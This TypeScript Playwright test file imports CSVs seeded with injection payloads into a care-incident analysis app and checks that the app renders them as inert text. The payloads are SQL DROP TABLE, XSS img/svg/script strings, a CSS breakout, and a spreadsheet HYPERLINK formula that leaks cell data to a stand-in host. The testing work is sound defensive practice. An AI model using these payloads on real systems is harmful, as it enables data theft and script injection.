/**
 * Hostile text in every text column of every canonical file, imported through the UI: SQL
 * (`'); DROP TABLE incidents; --`), HTML and SVG that would run script (`<img src=x onerror=…>`,
 * `"><svg onload=…>`, `<script>`), CSS that would break out of a string, and spreadsheet formulas
 * (`=HYPERLINK(…)`). The files are the sample service with its texts and ids replaced one for one,
 * so every number must come out as the plain sample's does.
 *
 * The browser runs with the Content-Security-Policy bypassed: the policy would silence an injected
 * handler, and what is tested here is that the app renders text as text on its own. Any dialog,
 * any element or attribute the payloads would create, or any request they would make fails.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ARTIFACTS, CHROMIUM, ROOT, serveStatic, takeDownload, valueOf, waitForQuiet, type StaticServer } from './harness';
import { sqlInAppWorker } from '../../src/cli/appWorker';

const SAMPLE = path.join(ROOT, 'sample-data');

const SQL = `'); DROP TABLE incidents; --`;
const IMG = `<img src=x onerror=alert(1)>`;
const SVG = `"><svg onload=alert(1)>`;
const SCRIPT = `<script>alert(1)</script>`;
const FORMULA = `=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`;
const CSS = `\\"; } * { display: none } @page { @top-left { content: "`;
const TEXTS = [SQL, IMG, SVG, SCRIPT, FORMULA, CSS];
/** Ids may not hold ; or | where a list of them is written with those (staff_involved). */
const ID_TEXTS = [`O'Brien${SVG}`, IMG, `=1+1`, `@SUM(A1)`, `${SCRIPT}`, `-2+3 "x"`];

type Row = Record<string, string>;
const read = (file: string) => Papa.parse<Row>(fs.readFileSync(path.join(SAMPLE, file), 'utf8'), { header: true, skipEmptyLines: true });

/** One hostile text per original value, the same every time it occurs (ids stay ids). */
function renamer(texts: string[]) {
  const seen = new Map<string, string>();
  return (value: string) => {
    if (value === '') return value;
    if (!seen.has(value)) seen.set(value, `${texts[seen.size % texts.length]} ${value}`);
    return seen.get(value)!;
  };
}

const unitNames: Record<string, string> = { Oak: `Oak${SQL}`, Willow: `${IMG} Willow` };
const unit = (u: string) => unitNames[u] ?? u;

/** Write the sample with hostile texts into `dir`; returns the files and their data-row counts. */
function writeHostileService(dir: string): { files: string[]; rows: Record<string, number> } {
  const person = renamer(ID_TEXTS);
  const staff = renamer(ID_TEXTS);
  const incident = renamer(TEXTS);
  const shift = renamer(TEXTS);
  const text = (v: string, i: number) => (v === '' ? v : `${TEXTS[i % TEXTS.length]} ${v}`);
  const files: string[] = [];
  const rows: Record<string, number> = {};
  const write = (name: string, fields: string[], data: Row[]) => {
    const file = path.join(dir, name);
    fs.writeFileSync(file, Papa.unparse({ fields, data: data.map((r) => fields.map((f) => r[f] ?? '')) }, { quotes: true }));
    files.push(file);
    rows[name] = data.length;
  };
  const each = (file: string, change: (r: Row, i: number) => Row) => {
    const parsed = read(file);
    return { fields: parsed.meta.fields!, data: parsed.data.map(change) };
  };

  let f = each('people.csv', (r, i) => ({ ...r, person_id: person(r.person_id!), name: text(r.name!, i), unit: unit(r.unit!) }));
  write('people.csv', f.fields, f.data);
  f = each('staffing_requirements.csv', (r) => ({ ...r, unit: unit(r.unit!) }));
  write('staffing_requirements.csv', f.fields, f.data);
  f = each('shifts.csv', (r, i) => ({
    ...r,
    shift_id: shift(r.shift_id!),
    staff_id: staff(r.staff_id!),
    unit: unit(r.unit!),
    role: text(r.role!, i),
    person_id: r.person_id ? person(r.person_id) : '',
  }));
  write('shifts.csv', f.fields, f.data);
  f = each('incidents.csv', (r, i) => ({
    ...r,
    incident_id: incident(r.incident_id!),
    person_id: person(r.person_id!),
    unit: unit(r.unit!),
    behaviour_type: text(r.behaviour_type!, i),
    antecedent: text(r.antecedent!, i + 1),
    consequence: text(r.consequence!, i + 2),
    staff_involved: r.staff_involved!.split(/[;|]/).filter(Boolean).map(staff).join(';'),
    description: text(r.description!, i + 3),
  }));
  // Two rows to be refused, whose refused values are hostile: they appear in the rejects.
  const base = f.data[0]!;
  f.data.push({ ...base, incident_id: `${SQL} bad date`, occurred_at: FORMULA }, { ...base, incident_id: `${IMG} bad severity`, severity: IMG });
  write('incidents.csv', f.fields, f.data);
  f = each('restrictive_interventions.csv', (r) => ({ ...r, incident_id: incident(r.incident_id!) }));
  write('restrictive_interventions.csv', f.fields, f.data);
  f = each('plan_delivery.csv', (r, i) => ({
    ...r,
    person_id: person(r.person_id!),
    strategy: text(r.strategy!, i),
    reason_not_delivered: text(r.reason_not_delivered!, i),
  }));
  write('plan_delivery.csv', f.fields, f.data);
  f = each('events.csv', (r, i) => ({
    ...r,
    person_id: r.person_id ? person(r.person_id) : '',
    unit: unit(r.unit!),
    type: text(r.type!, i),
    description: text(r.description!, i + 1),
  }));
  write('events.csv', f.fields, f.data);
  return { files, rows };
}

const PAGES: [link: string, heading: string][] = [
  ['Import summary', 'Import summary'],
  ['Check names', 'Check names across files'],
  ['Staffing and incidents', 'Staffing and incidents'],
  ['Restrictive practice', 'Restrictive practice'],
  ['When', 'When incidents happen'],
  ['Over time', 'Over time'],
  ['Plan delivery', 'Plan delivery'],
  ['Commissioned hours', 'Commissioned vs delivered'],
  ["Person's story", "The person's story"],
  ['What if', 'What if'],
  ['Data quality', 'Data quality'],
  ['Methods', 'Methods and definitions'],
  ['Evidence pack', 'Evidence pack'],
];

let server: StaticServer;
let profile: string;
let context: BrowserContext;
let page: Page;
let tmp: string;
let service: ReturnType<typeof writeHostileService>;
const dialogs: string[] = [];
const problems: string[] = [];
const svgs: { name: string; text: string }[] = [];
/** Table CSVs in which a formula from the data was found, neutralised. */
const neutralisedCsvs: string[] = [];

async function open(): Promise<Page> {
  const p = await context.newPage();
  p.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  p.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  p.on('console', (m) => {
    if (m.type() === 'error') problems.push(`console error: ${m.text()}`);
  });
  return p;
}

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pbs-injection-'));
  service = writeHostileService(tmp);
  server = await serveStatic();
  // A persistent profile, as the harness uses (its own, for bypassCSP).
  profile = fs.mkdtempSync(path.join(os.tmpdir(), 'pbs-injection-profile-'));
  context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
    bypassCSP: true,
    acceptDownloads: true,
    viewport: { width: 1280, height: 900 },
    locale: 'en-GB',
  });
  context.on('request', (r) => {
    const url = new URL(r.url());
    if (!['blob:', 'data:'].includes(url.protocol) && url.origin !== server.origin) problems.push(`request left the origin: ${r.url()}`);
    // `<img src=x>` rendered as markup would ask for /x. The app's own files are expected: the
    // service worker, the manifest and the shell it keeps for offline use (index.html).
    const appFile = /^\/(assets|icons|favicon|sample|sw\.js$|manifest\.webmanifest$|index\.html$|$)/;
    if (url.origin === server.origin && !appFile.test(url.pathname) && url.search === '') problems.push(`unexpected request: ${r.url()}`);
  });
  await context.route((u) => u.origin !== server.origin && !['blob:', 'data:'].includes(u.protocol), (route) => route.abort('blockedbyclient'));
  page = await open();
});
afterAll(async () => {
  await context?.close();
  await server?.close();
  for (const dir of [tmp, profile]) if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

/** Whatever the payloads would have made, were they markup: elements, handlers, the /x image. */
async function liveMarkup(p: Page): Promise<string[]> {
  return p.evaluate(() => {
    const found: string[] = [];
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.getAttributeNames()) if (/^on/i.test(a)) found.push(`${el.tagName} ${a}`);
    }
    for (const img of document.querySelectorAll('img')) if (img.getAttribute('src') === 'x') found.push('img src=x');
    for (const s of document.querySelectorAll('script')) if (!s.src) found.push('inline script');
    for (const svg of document.querySelectorAll('svg')) if (svg.hasAttribute('onload')) found.push('svg onload');
    return found;
  });
}

/** Wait until the page has stopped loading and calculating; after 150 s go on regardless, as before. */
async function settle(p: Page): Promise<void> {
  await waitForQuiet(p).catch(() => undefined);
}

async function visit(link: string, heading: string): Promise<void> {
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: link, exact: true }).click();
  await page.getByRole('heading', { level: 1, name: heading, exact: true }).waitFor();
  await settle(page);
}

/** Choose the person whose (real) name holds `text`. */
async function choosePerson(text: string): Promise<void> {
  const select = page.getByLabel('Person', { exact: true });
  const labels = await select.locator('option').allTextContents();
  const label = labels.find((l) => l.includes(text));
  expect(label, `a person named with ${text}`).toBeDefined();
  await select.selectOption({ label: label! });
  await settle(page);
}

/** Equal up to floating-point noise (sums may run in another order). */
function same(actual: number | null, expected: number | null, what: string): void {
  if (expected === null) return expect(actual, what).toBeNull();
  expect(actual, what).not.toBeNull();
  expect(Math.abs(actual! - expected), what).toBeLessThanOrEqual(1e-9 * Math.max(1, Math.abs(expected)));
}

/** Every SVG and CSV download of the page: the SVGs are kept for checking, CSV cells checked here. */
async function exportsOf(where: string): Promise<void> {
  const buttons = page.locator('main button[aria-label$=" as SVG"], main button[aria-label$=" table as CSV"]');
  const n = await buttons.count();
  for (let i = 0; i < n; i++) {
    const b = buttons.nth(i);
    if (!(await b.isVisible())) continue;
    const label = await b.getAttribute('aria-label');
    const d = await takeDownload(page, () => b.click(), { timeout: 30_000 }).catch(async (e: Error) => {
      const problems = await page.locator('main .export-problem, main [role="alert"]').allTextContents();
      throw new Error(`${where}: "${label}" gave no download (${problems.join(' | ') || e.message})`);
    });
    const text = fs.readFileSync((await d.path())!, 'utf8');
    if (d.suggestedFilename().endsWith('.svg')) svgs.push({ name: `${where}: ${d.suggestedFilename()}`, text });
    else {
      expectNeutralCsv(text, `${where}: ${d.suggestedFilename()}`);
      if (text.includes(`'${FORMULA.replace(/"/g, '""')}`) || text.includes(`'${FORMULA}`)) neutralisedCsvs.push(`${where}: ${d.suggestedFilename()}`);
    }
  }
}

/** No cell of a CSV starts a formula (=, +, -, @ not followed by a plain number). */
function expectNeutralCsv(text: string, where: string): void {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  for (const row of parsed.data) {
    for (const cell of row) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell, where).toMatch(/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/);
    }
  }
}

describe('hostile text in every column', () => {
  let plain: Record<string, number | null>;

  test('the plain sample, for the numbers to compare with', async () => {
    await page.goto(`${server.origin}/?sample=1`);
    await page.getByTestId('headline').waitFor({ timeout: 120_000 });
    await settle(page);
    plain = {};
    for (const id of ['person-periods', 'periods', 'incidents', 'incidents-outside-exposure', 'rate-shortfall-twoPlus', 'rr-shortfall-twoPlus', 'excess-incidents', 'dispersion']) {
      plain[id] = await valueOf(page, id);
    }
    expect(plain['incidents']).toBeGreaterThan(0);
  });

  test('imports through the UI with every row accounted for', async () => {
    await visit('Start', 'Start');
    await page.getByLabel('Import your files').setInputFiles(service.files);
    await page.getByRole('heading', { level: 1, name: 'Import summary' }).waitFor({ timeout: 120_000 });
    await settle(page);
    for (const file of service.files) {
      const card = page.locator(`[data-testid="import-card"][data-file="${path.basename(file)}"]`);
      const n = async (id: string) => Number((await card.getByTestId(id).textContent())!.replace(/,/g, ''));
      const expectedRejects = path.basename(file) === 'incidents.csv' ? 2 : 0;
      expect({ file: path.basename(file), read: await n('import-read'), rejected: await n('import-rejected') }).toEqual({
        file: path.basename(file),
        read: service.rows[path.basename(file)],
        rejected: expectedRejects,
      });
    }
    // The refused values are listed as text.
    const rejects = page.locator('[data-testid="import-card"][data-file="incidents.csv"] table.rejects');
    await expect(rejects.textContent()).resolves.toContain(FORMULA);
    await expect(rejects.textContent()).resolves.toContain(IMG);
  });

  test('the rejected rows download with formula cells neutralised', async () => {
    const card = page.locator('[data-testid="import-card"][data-file="incidents.csv"]');
    const d = await takeDownload(page, () => card.getByTestId('download-rejects').click());
    const csv = fs.readFileSync((await d.path())!, 'utf8');
    expectNeutralCsv(csv, 'rejects');
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain(IMG);
  });

  test('DROP TABLE did nothing: the tables hold every accepted row, and the numbers are the plain sample’s', async () => {
    const counts = await sqlInAppWorker(
      page,
      `SELECT (SELECT count(*) FROM incidents)::INTEGER AS incidents, (SELECT count(*) FROM people)::INTEGER AS people,
              (SELECT count(*) FROM shifts)::INTEGER AS shifts, (SELECT count(*) FROM plan_delivery)::INTEGER AS plan`,
    );
    expect(counts).toEqual([
      { incidents: service.rows['incidents.csv']! - 2, people: service.rows['people.csv'], shifts: service.rows['shifts.csv'], plan: service.rows['plan_delivery.csv'] },
    ]);
    const stored = await sqlInAppWorker(page, `SELECT count(*)::INTEGER AS n FROM incidents WHERE unit = 'Oak''); DROP TABLE incidents; --'`);
    expect(stored[0]!.n).toBeGreaterThan(0);
    await visit('Staffing and incidents', 'Staffing and incidents');
    for (const [id, value] of Object.entries(plain)) same(await valueOf(page, id), value, id);
  });

  test('real names shown, so names appear too', async () => {
    await page.getByTestId('show-real-names').check();
    await expect(page.getByTestId('show-real-names').isChecked()).resolves.toBe(true);
  });

  // One test per page, so each has its own time.
  for (const [link, heading] of PAGES) {
    test(`${heading}: text as text, no dialog, no element or handler from the data`, async () => {
      await visit(link, heading);
      if (heading === "The person's story" || heading === 'Evidence pack') {
        await choosePerson(heading === 'Evidence pack' ? '@page' : IMG);
      }
      if (heading === 'Evidence pack') {
        await page.getByTestId('evidence-pack').waitFor({ timeout: 120_000 });
        await page.getByTestId('real-name').check();
        await settle(page);
      }
      await exportsOf(heading);
      expect(await liveMarkup(page), heading).toEqual([]);
      expect(dialogs, heading).toEqual([]);
      expect(problems, heading).toEqual([]);
    });
  }

  test('the hostile unit names are on screen literally, and a table CSV neutralised a formula from the data', async () => {
    // The filter lists every unit.
    const units = await page.getByLabel('Unit', { exact: true }).locator('option').allTextContents();
    expect(units).toEqual(expect.arrayContaining([`Oak${SQL}`, `${IMG} Willow`]));
    expect(neutralisedCsvs.length, 'a table CSV with a formula from the data').toBeGreaterThan(0);
  });

  test('chart SVG exports carry the text escaped, never as elements', () => {
    expect(svgs.length).toBeGreaterThan(5);
    for (const { name, text } of svgs) {
      // Text is escaped (&lt;), so every < opens a real tag: none may be foreign or carry a handler.
      const tags = text.match(/<[a-zA-Z][^>]*>/g) ?? [];
      expect(tags.filter((t) => /^<(img|script|foreignObject|iframe|a)\b/i.test(t)), name).toEqual([]);
      expect(tags.filter((t) => /\son[a-z]+\s*=/i.test(t)), name).toEqual([]);
      // One root svg element: the payload's <svg> never became one.
      expect(text.match(/<svg\b/g)?.length, name).toBe(1);
    }
    const withData = svgs.filter((s) => s.text.includes('&lt;img src=x') || s.text.includes('&lt;script&gt;'));
    expect(withData.map((s) => s.name).length, 'some chart labels come from the data').toBeGreaterThan(0);
  });

  test('the printed evidence pack shows the name literally and the page rules hold', async () => {
    await visit('Evidence pack', 'Evidence pack');
    await page.getByTestId('evidence-pack').waitFor({ timeout: 120_000 });
    const name = (await page.getByTestId('pack-name').textContent())!;
    expect(TEXTS.some((t) => name.startsWith(t))).toBe(true);
    await page.emulateMedia({ media: 'print' });
    const file = path.join(ARTIFACTS, 'injection-evidence-pack.pdf');
    await page.pdf({ path: file, preferCSSPageSize: true, printBackground: true });
    await page.emulateMedia({ media: 'screen' });
    const pdf = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' }).replace(/[\s\u00a0]+/g, ' ');
    const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [file], { encoding: 'utf8' }))![1]);
    expect(pages).toBeGreaterThan(1);
    // The running header, an @page rule built from a name that tries to close the CSS string, is on
    // every page with the name as written (the box may wrap it), and the body printed.
    expect(name.startsWith(CSS)).toBe(true);
    expect(pdf.split(`PBS Lens evidence pack: ${CSS}`).length - 1).toBe(pages);
    expect(pdf).toContain('What the numbers show');
    expect(pdf).toContain(`Unit ${IMG} Willow`);
    for (let n = 1; n <= pages; n++) expect(pdf).toContain(`Page ${n} of ${pages}`);
    expect(await liveMarkup(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(problems).toEqual([]);
  });
});
